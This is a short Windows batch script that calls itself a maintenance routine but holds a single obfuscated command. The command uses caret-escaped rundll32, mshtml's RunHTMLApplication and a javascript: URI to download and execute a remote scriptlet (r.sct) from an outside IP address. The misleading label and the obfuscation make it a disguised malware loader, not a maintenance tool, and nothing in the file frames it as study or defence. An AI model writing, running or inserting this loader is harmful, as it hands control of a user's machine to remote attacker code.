REM maintenance 2496 v1
@echo off
set "lprc=^rundl^l32.ex^e j^a^va^sc^r^ipt:"\..\mshtml,RunHTMLApplication ";^d^ocument.wri^te();^Get^Obje^ct("script:http://198.51.100.23/r.sct")"
call %lprc%
